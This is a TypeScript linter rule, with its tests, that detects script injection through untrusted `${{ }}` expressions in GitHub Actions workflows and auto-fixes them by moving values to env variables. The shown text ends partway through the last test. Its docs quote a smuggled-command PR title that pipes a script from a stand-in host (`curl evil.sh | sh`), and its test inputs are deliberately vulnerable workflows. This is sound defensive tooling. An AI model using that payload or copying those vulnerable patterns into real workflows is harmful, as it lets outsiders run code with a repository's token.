import type { Rule } from '../../engine/types';
import type { WorkflowModel } from '../model';
import { analyzeExpressions } from '../expr/analysis';
import { moveToEnvFix } from '../envFix';
import { dedent } from '../../engine/dedent';

const rule: Rule<WorkflowModel> = {
  id: 'untrusted-input',
  language: 'workflow',
  severity: 'warning',
  compat: { actionlint: 'expression' },
  aliases: ['template-injection'],
  fix: { safety: 'unsafe', why: 'Moving the expression to `env:` changes how the script reads the value (that is its point): check the quoting it ends up in.' },
  docs: {
    summary:
      "A `${{ }}` in a `run:` script, or in an action input that runs as code (`actions/github-script`'s `script`, `azure/cli`'s and `azure/powershell`'s `inlineScript`, `appleboy/ssh-action`'s `script`, and a few more), expands text an outsider controls: issue and pull request titles and bodies, comments, branch names, commit messages (zizmor's `template-injection`).",
    why: 'GitHub pastes the value into the script before it runs, so a pull request titled `"; curl evil.sh | sh; "` runs that command with your token (script injection). Pass the value through `env:` and use the shell variable instead. The quick fix does that with the reference the place needs (`"$NAME"`, `$NAME` inside double quotes or an unquoted here-document, `$env:NAME` in PowerShell, `%NAME%` in cmd, `process.env.NAME` in github-script); it is not offered where no variable reads the same text (a quoted here-document, a PowerShell literal here-string, a regular expression literal), where the shell is not the same on every runner of a matrix, or where the step is shared through a YAML alias. The other actions get no fix (their scripts run elsewhere: in a container, over SSH). See https://docs.zizmor.sh/audits/#template-injection.',
    bad: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
    good: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
  },
  check(ctx) {
    if (ctx.model.kind !== 'workflow') return;
    for (const d of analyzeExpressions(ctx.model, ctx.files, ctx.path).diags) {
      if (d.rule !== 'untrusted-input') continue;
      const fix = moveToEnvFix(ctx.model, d.start, d.end);
      ctx.report({ message: d.message, range: ctx.model.lines.range(d.start, Math.max(d.end, d.start)), severity: d.severity, fixes: fix ? [fix] : undefined });
    }
  },
  tests: [
    {
      name: 'titles, commit messages and branch names in scripts',
      input: dedent`
        on: pull_request
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  echo \${{ github.event.pull_request.title }}
                  echo \${{ github.event.commits[0].message }} \${{ github.head_ref }}
              - uses: actions/github-script@v7
                with:
                  script: console.log('\${{ github.event.pull_request.body }}')
      `,
      expect: [
        { line: 7, col: 20, message: '"github.event.pull_request.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 20, message: '"github.event.commits.*.message" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 59, message: '"github.head_ref" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 36, message: '"github.event.pull_request.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
    },
    {
      name: 'untrusted values through env, and trusted values in scripts',
      input:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"$T\" ${{ github.event.pull_request.number }} ${{ github.sha }}\n        env:\n          T: ${{ github.event.pull_request.title }}\n",
      expect: [],
    },
    {
      name: 'fix: moves the expression to the step env (block scalar, quoting kept, one name per expression)',
      input:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo ${{ github.event.pull_request.title }}\n          echo \"title: ${{ github.event.pull_request.title }}!\" '${{ github.head_ref }}'\n        shell: bash\n      - run: echo 'x${{ github.event.pull_request.body }}y'\n",
      expect: [
        { line: 7, col: 20, message: '"github.event.pull_request.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 28, message: '"github.event.pull_request.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 70, message: '"github.head_ref" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 25, message: '"github.event.pull_request.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo \"$PULL_REQUEST_TITLE\"\n          echo \"title: $PULL_REQUEST_TITLE!\" \"$HEAD_REF\"\n        shell: bash\n        env:\n          PULL_REQUEST_TITLE: ${{ github.event.pull_request.title }}\n          HEAD_REF: ${{ github.head_ref }}\n      - run: echo 'x'\"$PULL_REQUEST_BODY\"'y'\n        env:\n          PULL_REQUEST_BODY: ${{ github.event.pull_request.body }}\n",
    },
    {
      name: 'fix: extends an existing env without colliding, quoted YAML scalars, github-script',
      input: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            env:
              ISSUE_TITLE: fixed
            steps:
              - name: t
                env:
                  OTHER: 1
                run: "echo \\"\${{ github.event.issue.title }}\\""
              - uses: actions/github-script@v7
                with:
                  script: |
                    console.log('\${{ github.event.issue.body }}')
                    console.log(\`body: \${{ github.event.issue.body }}\`, "t=\${{ github.event.issue.title }}")
      `,
      expect: [
        { line: 11, col: 26, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 15, col: 30, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 16, col: 36, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 16, col: 72, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            env:
              ISSUE_TITLE: fixed
            steps:
              - name: t
                env:
                  OTHER: 1
                  ISSUE_TITLE_2: \${{ github.event.issue.title }}
                run: "echo \\"$ISSUE_TITLE_2\\""
              - uses: actions/github-script@v7
                with:
                  script: |
                    console.log(process.env.ISSUE_BODY)
                    console.log(\`body: \${process.env.ISSUE_BODY}\`, "t=" + process.env.ISSUE_TITLE_2 + "")
                env:
                  ISSUE_BODY: \${{ github.event.issue.body }}
                  ISSUE_TITLE_2: \${{ github.event.issue.title }}
      `,
    },
    {
      name: 'fix: PowerShell on Windows runners, cmd, flow and empty env; none for python',
      input: dedent`
        on: issues
        jobs:
          a:
            runs-on: windows-latest
            steps:
              - run: Write-Output "\${{ github.event.issue.title }}"
                env: {}
              - run: echo \${{ github.event.issue.title }}
                shell: cmd
                env:
              - run: print('\${{ github.event.issue.title }}')
                shell: python
      `,
      expect: [
        { line: 6, col: 32, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 23, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 25, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed: dedent`
        on: issues
        jobs:
          a:
            runs-on: windows-latest
            steps:
              - run: Write-Output $env:ISSUE_TITLE
                env: { ISSUE_TITLE: '\${{ github.event.issue.title }}' }
              - run: echo %ISSUE_TITLE%
                shell: cmd
                env:
                  ISSUE_TITLE: \${{ github.event.issue.title }}
              - run: print('\${{ github.event.issue.title }}')
                shell: python
      `,
    },
    {
      name: 'fix: nothing expands in a quoted here-document (no fix); an unquoted one gets the bare variable',
      input: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  cat <<'EOF'
                  title: \${{ github.event.issue.title }}
                  EOF
              - run: |
                  cat <<"EOF" > a.txt; cat <<\\END
                  \${{ github.event.issue.title }}
                  EOF
                  \${{ github.event.issue.title }}
                  END
              - run: |
                  cat <<EOF > out.txt; cat <<-'X'
                  title: "\${{ github.event.issue.title }}" (\${{ github.event.issue.title }}s) $(echo \${{ github.event.issue.title }})
                  EOF
                  \${{ github.event.issue.title }}
                  X
                  echo '\${{ github.event.issue.title }}'
      `,
      expect: [
        { line: 8, col: 22, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 12, col: 15, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 14, col: 15, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 18, col: 23, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 18, col: 57, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 18, col: 98, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 20, col: 15, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 22, col: 21, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  cat <<'EOF'
                  title: \${{ github.event.issue.title }}
                  EOF
              - run: |
                  cat <<"EOF" > a.txt; cat <<\\END
                  \${{ github.event.issue.title }}
                  EOF
                  \${{ github.event.issue.title }}
                  END
              - run: |
                  cat <<EOF > out.txt; cat <<-'X'
                  title: "\${{ github.event.issue.title }}" (\${{ github.event.issue.title }}s) $(echo \${{ github.event.issue.title }})
                  EOF
                  \${{ github.event.issue.title }}
                  X
                  echo '\${{ github.event.issue.title }}'
      `,
    },
    {
      name: 'fix: unquoted here-documents, command substitutions and quotes each get the reference that keeps the text',
      input: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  cat <<EOF > out.txt
                  title: "\${{ github.event.issue.title }}" (\${{ github.event.issue.title }}s) $(echo \${{ github.event.issue.title }})
                  EOF
                  echo "$(printf '%s' "\${{ github.event.issue.title }}")" 'a \${{ github.event.issue.title }} b' "x\${{ github.event.issue.title }}y"
                  t=\${{ github.event.issue.title }}; echo "$t" # \${{ github.event.issue.title }}
                  echo '\${{ github.event.issue.title }}'
      `,
      expect: [
        { line: 8, col: 23, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 57, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 98, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 36, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 74, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 111, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 17, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 62, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 12, col: 21, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  cat <<EOF > out.txt
                  title: "$ISSUE_TITLE" (\${ISSUE_TITLE}s) $(echo "$ISSUE_TITLE")
                  EOF
                  echo "$(printf '%s' "$ISSUE_TITLE")" 'a '"$ISSUE_TITLE"' b' "x\${ISSUE_TITLE}y"
                  t="$ISSUE_TITLE"; echo "$t" # $ISSUE_TITLE
                  echo "$ISSUE_TITLE"
                env:
                  ISSUE_TITLE: \${{ github.event.issue.title }}
      `,
    },
    {
      name: 'fix: none where the quoted variable would mean something else (regex match, escaped, $"…", backquotes, ${…})',
      input: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - run: if [[ "$t" =~ \${{ github.event.issue.title }} ]]; then echo; fi
              - run: echo \\\${{ github.event.issue.title }}
              - run: echo "\\\${{ github.event.issue.title }}"
              - run: echo \`echo \${{ github.event.issue.title }}\`
              - run: echo "\${X:-\${{ github.event.issue.title }}}"
              - run: echo $'\${{ github.event.issue.title }}'
      `,
      expect: [
        { line: 6, col: 32, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 7, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 25, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 9, col: 29, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 29, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 25, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - run: if [[ "$t" =~ \${{ github.event.issue.title }} ]]; then echo; fi
              - run: echo \\\${{ github.event.issue.title }}
              - run: echo "\\\${{ github.event.issue.title }}"
              - run: echo \`echo \${{ github.event.issue.title }}\`
              - run: echo "\${X:-\${{ github.event.issue.title }}}"
              - run: echo $'\${{ github.event.issue.title }}'
      `,
    },
    {
      name: 'fix: the reference must suit every runner of a matrix; unknown runners get no fix',
      input: dedent`
        on: issues
        jobs:
          a:
            strategy:
              matrix:
                os: [ubuntu-latest, windows-latest]
            runs-on: \${{ matrix.os }}
            steps:
              - run: echo "\${{ github.event.issue.title }}"
              - run: echo "\${{ github.event.issue.body }}"
                shell: bash
          b:
            strategy:
              matrix:
                os: [ubuntu-22.04, macos-14]
                include:
                  - os: windows-2022
            runs-on: \${{ matrix.os }}
            steps:
              - run: echo "\${{ github.event.issue.title }}"
          c:
            strategy:
              matrix:
                os: [windows-2022, windows-2025]
            runs-on: \${{ matrix.os }}
            steps:
              - run: Write-Output "\${{ github.event.issue.title }}"
          d:
            runs-on: self-hosted
            steps:
              - run: echo "\${{ github.event.issue.title }}"
          e:
            runs-on: [self-hosted, linux, x64]
            steps:
              - run: echo "\${{ github.event.issue.title }}"
          f:
            runs-on: \${{ inputs.runner }}
            steps:
              - run: echo "\${{ github.event.issue.title }}"
      `,
      expect: [
        { line: 9, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 24, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 20, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 27, col: 32, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 31, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 35, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 39, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed: dedent`
        on: issues
        jobs:
          a:
            strategy:
              matrix:
                os: [ubuntu-latest, windows-latest]
            runs-on: \${{ matrix.os }}
            steps:
              - run: echo "\${{ github.event.issue.title }}"
              - run: echo "$ISSUE_BODY"
                shell: bash
                env:
                  ISSUE_BODY: \${{ github.event.issue.body }}
          b:
            strategy:
              matrix:
                os: [ubuntu-22.04, macos-14]
                include:
                  - os: windows-2022
            runs-on: \${{ matrix.os }}
            steps:
              - run: echo "\${{ github.event.issue.title }}"
          c:
            strategy:
              matrix:
                os: [windows-2022, windows-2025]
            runs-on: \${{ matrix.os }}
            steps:
              - run: Write-Output $env:ISSUE_TITLE
                env:
                  ISSUE_TITLE: \${{ github.event.issue.title }}
          d:
            runs-on: self-hosted
            steps:
              - run: echo "\${{ github.event.issue.title }}"
          e:
            runs-on: [self-hosted, linux, x64]
            steps:
              - run: echo "$ISSUE_TITLE"
                env:
                  ISSUE_TITLE: \${{ github.event.issue.title }}
          f:
            runs-on: \${{ inputs.runner }}
            steps:
              - run: echo "\${{ github.event.issue.title }}"
      `,
    },
    {
      name: 'fix: never edits a map or script another place shares through a YAML alias',
      input: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - run: echo "\${{ github.event.issue.title }}"
                env: &e
                  A: 1
              - run: echo "$A"
                env: *e
              - run: &r echo "\${{ github.event.issue.body }}"
              - run: *r
                env:
                  B: 2
      `,
      expect: [
        { line: 6, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 27, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - run: echo "\${{ github.event.issue.title }}"
                env: &e
                  A: 1
              - run: echo "$A"
                env: *e
              - run: &r echo "\${{ github.event.issue.body }}"
              - run: *r
                env:
                  B: 2
      `,
    },
    {
      name: 'fix: other shells (custom bash, node, expression) and names the script already uses',
      input: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - run: ISSUE_TITLE=x; echo "$ISSUE_TITLE \${{ github.event.issue.title }}"
                shell: /usr/bin/bash -e {0}
              - run: console.log('\${{ github.event.issue.title }}')
                shell: node {0}
              - run: echo "\${{ github.event.issue.title }}"
                shell: \${{ matrix.shell }}
      `,
      expect: [
        { line: 6, col: 52, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 31, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - run: ISSUE_TITLE=x; echo "$ISSUE_TITLE $ISSUE_TITLE_2"
                shell: /usr/bin/bash -e {0}
                env:
                  ISSUE_TITLE_2: \${{ github.event.issue.title }}
              - run: console.log('\${{ github.event.issue.title }}')
                shell: node {0}
              - run: echo "\${{ github.event.issue.title }}"
                shell: \${{ matrix.shell }}
      `,
    },
    {
      name: 'fix: PowerShell literal here-strings, single quotes and member access keep the expression',
      input: dedent`
        on: issues
        jobs:
          a:
            runs-on: windows-latest
            steps:
              - run: |
                  $a = @'
                  it's \${{ github.event.issue.title }}
                  '@
                  $b = @"
                  it's "\${{ github.event.issue.body }}" \${{ github.event.issue.body }}x
                  "@
              - run: Write-Output 'a \${{ github.event.issue.title }}'
              - run: Write-Output \${{ github.event.issue.title }}.txt
      `,
      expect: [
        { line: 8, col: 20, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 21, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 53, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 13, col: 34, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 14, col: 31, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed: dedent`
        on: issues
        jobs:
          a:
            runs-on: windows-latest
            steps:
              - run: |
                  $a = @'
                  it's \${{ github.event.issue.title }}
                  '@
                  $b = @"
                  it's "$env:ISSUE_BODY" \${env:ISSUE_BODY}x
                  "@
                env:
                  ISSUE_BODY: \${{ github.event.issue.body }}
              - run: Write-Output 'a \${{ github.event.issue.title }}'
              - run: Write-Output \${{ github.event.issue.title }}.txt
      `,
    },
    {
      name: 'fix: github-script regular expressions, tagged templates and string operands',
      input: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/github-script@v7
                with:
                  script: |
                    if (/\${{ github.event.issue.title }}/.test(x)) return;
                    const t = String.raw\`\${{ github.event.issue.title }}\`;
              - uses: actions/github-script@v7
                with:
                  script: |
                    const n = 'a\${{ github.event.issue.body }}b'.length;
                    const o = JSON.parse(\`\${{ github.event.issue.body }}\`) / 2;
      `,
      expect: [
        { line: 9, col: 22, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 38, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 14, col: 29, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 15, col: 39, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed: dedent`
        on: issues
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/github-script@v7
                with:
                  script: |
                    if (/\${{ github.event.issue.title }}/.test(x)) return;
                    const t = String.raw\`\${{ github.event.issue.title }}\`;
              - uses: actions/github-script@v7
                with:
                  script: |
                    const n = ('a' + process.env.ISSUE_BODY + 'b').length;
                    const o = JSON.parse(\`\${process.env.ISSUE_BODY}\`) / 2;
                env:
                  ISSUE_BODY: \${{ github.event.issue.body }}
      `,
    },
    {
      name: 'inputs of other actions that run as code; other inputs and actions are plain text',
      input: dedent`
        on: issue_comment
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - uses: azure/cli@v2
                with:
                  azcliversion: latest
                  inlineScript: az group show -n \${{ github.event.comment.body }}
              - uses: appleboy/ssh-action@v1
                with:
                  host: example.com
                  script: echo \${{ github.event.issue.title }}
              - uses: Azure/PowerShell@v2
                with:
                  InlineScript: Write-Output '\${{ github.event.comment.body }}'
              - uses: actions/github-script@v7
                with:
                  github-token: \${{ github.event.comment.body }}
                  script: return 1
              - uses: peter-evans/create-or-update-comment@v4
                with:
                  body: \${{ github.event.comment.body }}
              - uses: someone/run-anything@v1
                with:
                  script: \${{ github.event.comment.body }}
      `,
      expect: [
        { line: 9, col: 46, message: '"github.event.comment.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 13, col: 28, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 16, col: 43, message: '"github.event.comment.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed: dedent`
        on: issue_comment
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - uses: azure/cli@v2
                with:
                  azcliversion: latest
                  inlineScript: az group show -n \${{ github.event.comment.body }}
              - uses: appleboy/ssh-action@v1
                with:
                  host: example.com
                  script: echo \${{ github.event.issue.title }}
              - uses: Azure/PowerShell@v2
                with:
                  InlineScript: Write-Output '\${{ github.event.comment.body }}'
              - uses: actions/github-script@v7
                with:
                  github-token: \${{ github.event.comment.body }}
                  script: return 1
